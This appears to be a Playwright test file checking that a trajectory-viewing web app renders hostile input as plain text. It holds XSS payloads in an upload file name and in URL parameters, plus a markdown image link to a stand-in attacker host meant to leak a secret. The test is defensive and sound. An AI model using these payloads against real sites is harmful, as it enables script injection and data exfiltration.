import type { Page } from "@playwright/test";
import { hostileRun } from "./forensics/runs";
import { uploadThroughPage } from "./harness/upload";
import { expect, test } from "./harness/watched-page";

const NAME = '<img src=x onerror="window.__pwned=1">.traj';

/** Nothing of the trace ran, became an element, or became a link that leads out. The harness watches requests and dialogs. */
async function checkHarmless(page: Page, place: string): Promise<void> {
  const found = await page.evaluate(() => ({
    ran: "__pwned" in window,
    elements: document.querySelectorAll("img, iframe, object, embed, base, svg[onload], main script").length,
    links: [...document.querySelectorAll("a[href]")].map((link) =>
      link instanceof HTMLAnchorElement ? link.href : "",
    ),
    handlers: [...document.querySelectorAll("*")].filter((each) =>
      each.getAttributeNames().some((name) => name.startsWith("on")),
    ).length,
  }));
  expect(found.ran, place).toBe(false);
  expect(found.elements, place).toBe(0);
  expect(found.handlers, place).toBe(0);
  const origin = new URL(page.url()).origin;
  for (const link of found.links) expect(link.startsWith(`${origin}/`), `${place}: ${link}`).toBe(true);
}

/** Opens every turn and every view of a page. */
async function visitAll(page: Page, base: string, views: readonly string[], turns: number): Promise<void> {
  for (const view of views) {
    for (let turn = 1; turn <= turns; turn++) {
      await page.goto(`${base}?turn=${turn}&view=${view}`);
      const heading = page.getByRole("heading", { level: 2 }).first();
      await expect(heading).toBeVisible();
      await page.mouse.move(300 + turn * 60, 250);
      await checkHarmless(page, `${view} of turn ${turn}`);
    }
  }
}

test("X1, X4, X5: hostile strings in every field stay words, on every view and on the shared page", async ({
  page,
  stranger,
}) => {
  test.setTimeout(180_000);
  const row = await uploadThroughPage(page, { name: NAME, content: hostileRun(`hostile ${Date.now()}`) });
  expect(row.status).toBe("ready");
  const turns = row.turnCount ?? 0;
  expect(turns).toBe(4);
  await checkHarmless(page, "the list");

  const base = `/t/${row.id}`;
  await visitAll(page, base, ["code", "files", "raw"], turns);
  await page.goto(`${base}?turn=1`);
  await expect(page.getByText('<img src=x onerror="window.__pwned=1">').first()).toBeVisible();
  await expect(
    page.getByText("![leak](https://attacker.example/leak?q=secret)", { exact: false }).first(),
  ).toBeVisible();
  for (const context of [0, 1]) {
    await page.goto(`${base}?turn=1&context=${context}`);
    await expect(page.getByRole("heading", { level: 2 }).first()).toBeVisible();
    await checkHarmless(page, `context ${context}`);
  }
  await page.goto(`${base}?turn=2`);
  await page.getByRole("button", { name: /import notes?$|not understood$/ }).click();
  await expect(page.getByRole("dialog")).toBeVisible();
  await checkHarmless(page, "notes");
  await page.keyboard.press("Escape");

  await page.getByRole("button", { name: "Share", exact: true }).click();
  const dialog = page.getByRole("dialog", { name: "Share" });
  await dialog.getByRole("button", { name: "Create link" }).click();
  const link = new URL(await dialog.getByLabel("The new link").inputValue());
  await visitAll(stranger, link.pathname, ["code", "files"], turns);
  // What runs late would have run by now (X2).
  await stranger.waitForTimeout(2_000);
  expect(new URL(stranger.url()).pathname).toBe(link.pathname);
  await checkHarmless(stranger, "the shared page, later");
});

test("X1: hostile values in the address stay words", async ({ page }) => {
  const row = await uploadThroughPage(page, { name: "plain.traj", content: hostileRun(`address ${Date.now()}`) });
  const hostile = encodeURIComponent('"><script>window.__pwned=1</script><img src=x onerror=window.__pwned=1>');
  await page.goto(`/t/${row.id}?turn=${hostile}&file=${hostile}&item=${hostile}&view=${hostile}&list=${hostile}`);
  await expect(page.getByRole("heading", { level: 2 }).first()).toBeVisible();
  await checkHarmless(page, "address");
});
